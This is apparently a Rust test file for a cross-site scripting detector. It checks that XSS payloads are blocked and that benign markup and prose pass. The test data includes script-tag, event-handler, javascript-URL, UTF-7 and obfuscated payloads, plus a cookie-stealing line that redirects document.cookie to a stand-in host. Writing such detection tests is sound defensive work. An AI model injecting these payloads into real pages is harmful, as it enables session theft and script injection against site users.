use super::*;

fn score(text: &str) -> Option<u8> {
    detect(text, &crate::normalize::fold(text)).map(|h| h.score)
}

fn blocked(text: &str) -> bool {
    score(text).is_some_and(|s| s <= 20)
}

#[test]
fn script_tags_and_event_handlers_are_certain() {
    assert!(score("<script>alert(1)</script>").is_some_and(|s| s <= 5));
    assert!(score("<img src=x onerror=alert(1)>").is_some_and(|s| s <= 6));
    assert!(blocked("<svg/onload=alert(1)>"));
    assert!(blocked("<x onend=alert(1)"));
}

#[test]
fn script_urls_survive_whitespace_and_entities_in_the_scheme() {
    assert!(blocked("<a href=\"java\tscript:alert(1)\">x</a>"));
    let decoded = crate::normalize::decode(
        b"<a href=\"jav&#x09;ascript&colon;alert(1)\">",
        crate::normalize::Plus::Literal,
    )
    .0;
    assert!(blocked(&decoded));
    assert!(blocked("javascript:alert(document.domain)"));
}

#[test]
fn breaking_out_of_an_attribute_into_a_handler_is_recognised() {
    assert!(blocked("\" onmouseover=\"alert(1)"));
    assert!(blocked("' autofocus onfocus=alert(1) x='"));
}

#[test]
fn dangerous_css_and_active_tags_are_recognised() {
    assert!(blocked("<p style=\"background:url(javascript:alert(1))\">"));
    assert!(blocked("<iframe src=//evil>"));
    assert!(blocked("<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"));
}

#[test]
fn script_outside_tags_is_recognised() {
    assert!(blocked("document.cookie"));
    assert!(blocked("x\";alert(1)//"));
    assert!(blocked("[].sort.call`${alert}1337`"));
    assert!(blocked("(![]+[])[+!+[]]"));
}

#[test]
fn utf7_encoded_markup_is_recognised() {
    assert!(blocked("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"));
}

#[test]
fn formatting_markup_and_prose_are_not_attacks() {
    for text in [
        "<b>bold</b> and <i>italic</i>",
        "<a href=\"https://example.com\">a link</a>",
        "I love you <3",
        "123<456",
        "Please confirm (yes or no)",
        "the onboarding=done flag",
        "javascript: the good parts",
    ] {
        assert!(!blocked(text), "{text}");
    }
}

#[test]
fn regression_fuzz_attribute_scan_on_replacement_characters() {
    let text = String::from_utf8_lossy(b"<e<tt='\xff\xff\xff*t='\xff\xff\xe8").into_owned();
    let _ = detect(&text, &crate::normalize::fold(&text));
}

#[test]
fn a_tag_followed_by_a_kilobyte_of_wide_characters_does_not_panic() {
    // The 1 KB window after a tag name ended inside a three-byte character: a panic, and a
    // dropped connection, for `?q=<a` followed by 600 euro signs.
    for tag in ["<a", "<ab", "<abc"] {
        let text = format!("{tag}{}", "€".repeat(600));
        assert!(!blocked(&text), "{text}");
    }
}

#[test]
fn xml_declarations_and_sentences_about_script_are_not_markup_attacks() {
    for text in [
        "<?xml version=\"1.0\"?>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>",
        "document.cookie is empty in Safari",
        "window.location not updating",
    ] {
        assert!(!blocked(text), "{text}: {:?}", score(text));
    }
}

#[test]
fn script_and_stylesheets_next_to_the_look_alikes_stay_blocked() {
    for text in [
        "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>",
        "<?xml version=\"1.0\"?><svg onload=alert(1)>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<?xml version=\"1.0\" onload=\"alert(1)\"?>",
        "document.cookie",
        "document . cookie is here",
        "';document.location='http://x/?'+document.cookie;//",
        "alert(document.cookie)",
    ] {
        assert!(blocked(text), "{text}: {:?}", score(text));
    }
}
